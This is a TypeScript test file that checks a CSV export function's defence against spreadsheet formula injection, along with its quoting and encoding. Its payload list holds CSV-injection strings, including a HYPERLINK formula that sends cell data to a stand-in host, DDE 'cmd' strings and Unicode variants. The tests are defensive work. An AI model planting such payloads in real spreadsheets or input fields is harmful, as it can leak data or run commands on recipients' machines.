import { csvText } from '@lichtspel/domain/desk/csv'
import { hostileTexts } from '@lichtspel/test-support/api/hostile-texts.ts'
import { expect, test } from 'vitest'

/** Parses RFC 4180 with semicolons. Written for the test, independently of the writer. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [[]]
  let at = 0
  while (at < text.length) {
    const row = rows.at(-1) ?? []
    let cell = ''
    if (text[at] === '"') {
      at++
      while (text[at] !== '"' || text[at + 1] === '"') {
        if (at >= text.length) throw new Error('a quote that does not end')
        cell += text[at]
        at += text[at] === '"' ? 2 : 1
      }
      at++
    } else {
      while (at < text.length && text[at] !== ';' && text[at] !== '\r') cell += text[at++]
    }
    row.push(cell)
    if (text[at] === ';') at++
    else if (text.startsWith('\r\n', at)) {
      at += 2
      if (at < text.length) rows.push([])
    } else throw new Error(`neither a cell nor a line ends at ${at}: ${text.slice(at, at + 20)}`)
  }
  return rows
}

const FORMULAS = [
  '=1+1',
  '=HYPERLINK("https://evil.example?x="&A1;"klik")',
  "=cmd|' /C calc'!A0",
  '+32 470 12 34 56',
  '-2+3+cmd|calc!A0',
  '@SUM(1+9)*cmd|calc!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n@x',
  ' =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '\u0000=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
]

test('a text that a spreadsheet would run as a formula gets a leading apostrophe', () => {
  const rows = readCsv(csvText(FORMULAS.map((text) => [text])).slice(1))
  expect(rows).toHaveLength(FORMULAS.length)
  for (const [cell = ''] of rows) expect(cell).toMatch(/^'/)
})

test('other texts are unchanged, and numbers have a decimal comma', () => {
  expect(csvText([['An; "Peeters"', 'Lotte = 10', '', null, 18, 1080.5, -3]])).toBe(
    '\ufeff"An; ""Peeters""";"Lotte = 10";"";;18;1080,5;-3\r\n',
  )
})

test('the file starts with the byte order mark that tells Excel it is UTF-8', () => {
  expect([...Buffer.from(csvText([['é']]))].slice(0, 3)).toEqual([0xef, 0xbb, 0xbf])
})

test('no text breaks out of its cell or line, and none starts like a formula', () => {
  const next = hostileTexts(20261115)
  const sent = Array.from({ length: 500 }, () => {
    const start = ['=', '+', '-', '@', '\t', '\r', '"', ';', '\n', ''][Math.abs(next().length) % 10]
    return [`${start}${next()}`, next(), next()]
  })
  const read = readCsv(csvText(sent).slice(1))
  expect(read).toHaveLength(sent.length)
  for (const [at, row] of read.entries()) {
    expect(row).toHaveLength(3)
    for (const [column, cell] of row.entries()) {
      expect(cell).not.toMatch(/^[=+\-@\t\r\n]/)
      const letters = (text: string) => text.replace(/\p{Cc}/gu, '')
      expect([letters(cell), letters(cell).slice(1)]).toContain(letters(sent[at]?.[column] ?? ''))
    }
  }
})
